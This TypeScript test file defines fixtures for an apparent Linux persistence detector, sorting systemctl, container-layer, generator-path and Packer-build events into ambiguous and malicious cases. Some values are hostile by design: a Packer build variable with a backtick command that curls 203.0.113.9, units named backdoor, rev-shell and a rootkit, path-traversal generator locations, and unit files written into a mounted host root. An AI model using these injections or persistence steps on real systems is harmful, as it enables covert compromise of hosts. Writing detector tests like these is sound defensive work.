import { onlyFull, ran, scenarios, wrote } from './scenario.ts';

const ENABLE = 'systemctl enable --now updater.service';
const MODULE = '.ansible/tmp/ansible-tmp-1763911001.44-20817-1143/AnsiballZ_systemd.py';
const LAYER = '/var/lib/docker/overlay2/0f5d1c2a3b4c5d6e7f/merged';
const UNIT = 'etc/systemd/system/updater.service';

const session = (line: string, account = 'alice') => ran(account, line, 'bash', '-bash', 'sshd-session');
const module = (line: string) => ran('root', line, 'python3', `/usr/bin/python3 /root/${MODULE}`, 'sh');
const build = (line: string, parentLine: string) =>
  ran('root', line, parentLine.split(' ', 1)[0] ?? '', parentLine, 'runc');
const job = (script: string) => ran('root', ENABLE, 'sh', `sh -xe ${script}`, 'java');
const layer = (path: string, grandparent = 'bash') =>
  wrote('root', path, 'python3', 'python3 /app/x.py', grandparent);
const copy = (root: string) =>
  wrote('root', `${root}/${UNIT}`, 'sh', `sh -c cat /tmp/u > ${root}/${UNIT}`, 'runc');
const generator = (way: string) =>
  wrote(
    'root',
    `/usr/lib/systemd/system/${way}gen.service`,
    'python3',
    `/usr/bin/python3 /root/${MODULE.replace('_systemd', '_copy')}`,
    'sh',
  );
const packer = (variable: string) =>
  ran(
    'packer',
    'systemctl enable app',
    'sh',
    `sh -c chmod +x /tmp/script_4711.sh; ${variable} /tmp/script_4711.sh`,
    'sshd-session',
  );

/** Names, accounts and places that are none of the tool's, and what a build cannot do. */
export const quietPlaceScenarios = [
  ...scenarios('ambiguous', 'place', [
    ['a session with a daemon of the host', session('systemctl --user enable --now sshd')],
    ['a session with a daemon of systemd', session('systemctl --user enable --now systemd-resolved')],
    ['a session with a sensor', session('systemctl --user enable --now sysmon')],
    ['an account of an application', session('systemctl --user enable x', 'appuser')],
    ['an account of mail', session('systemctl --user enable x', 'vmail')],
    ['a guest', session('systemctl --user enable x', 'guest')],
    ['a build that starts a unit', build('systemctl enable --now updater', 'python3 /app/x.py')],
    ['a build that stops a unit', build('systemctl disable --now start', 'node /app/x.js')],
    ["a job's script among a database's files", job('/var/lib/mysql/a@tmp/durable-1/script.sh')],
    ["a job's script among a server's files", job('/opt/jboss/a@tmp/durable-1/script.sh')],
    ['other paths for every unit', module('systemctl set-environment PATH=/opt/start:/usr/bin')],
    ['another root for the host', module('systemctl switch-root /opt/x /start')],
  ]),
  ...scenarios('ambiguous', 'place', [
    ['a generator by way of the units', generator('../x/../system-generators/../system-generators/')],
    ['a generator by way of a place beside', generator('../system-generators/x/../')],
    ['a generator behind two slashes', generator('..//system-generators/')],
    ['a generator of the session behind a dot', generator('.././user-generators/')],
    ['a script of the shell', generator('../../../../etc//profile.d/')],
    ['what looks like a layer on a disk', layer(`/mnt/disk/overlay/rootfs/${UNIT}`)],
    ['what looks like a snapshot on a disk', layer(`/mnt/snapshots/1/fs/${UNIT}`)],
    ['what looks like a volume of btrfs', layer(`/mnt/btrfs/rootfs/${UNIT}`)],
    ['what looks like a layer in a home', layer(`/home/sam/.local/share/overlay/merged/${UNIT}`)],
    ['another root within a layer', layer(`${LAYER}/h/${UNIT}`)],
  ]).map(onlyFull),
];

/** As these, with what proves the attack. */
export const maliciousPlaceScenarios = [
  ...scenarios('malicious', 'place', [
    ["an account that is named after a web server's", session('systemctl --user enable x', 'wwwdata')],
    ["an account that is named after a database's", session('systemctl --user enable x', 'mysqluser')],
    ['a unit written below a root of one name', copy('/h')],
    ['a unit of a back door', module('systemctl enable --now backdoor')],
    ['a unit of a reverse shell', module('systemctl enable --now rev-shell')],
    ['a unit of a rootkit', module('systemctl enable --now reptile')],
    ["a job's script among uploads", job('/data/uploads/a@tmp/durable-1/script.sh')],
    ["a job's script among a site's files", job('/data/wwwroot/a@tmp/durable-1/script.sh')],
    ['a variable of Packer with a command', packer('PACKER_BUILD_NAME="`/srv/x`"')],
    ['a variable of Packer with another one', packer('PACKER_BUILD_NAME=$X')],
    ['variables of Packer that run a program', packer('PACKER_BUILD_NAME="`curl 203.0.113.9/x`"')],
  ]),
  ...scenarios('malicious', 'place', [
    ["the host's root within a layer", layer(`${LAYER}/host/${UNIT}`)],
    ["the host's root within a layer, by another name", layer(`${LAYER}/mnt/host/${UNIT}`)],
  ]).map(onlyFull),
];
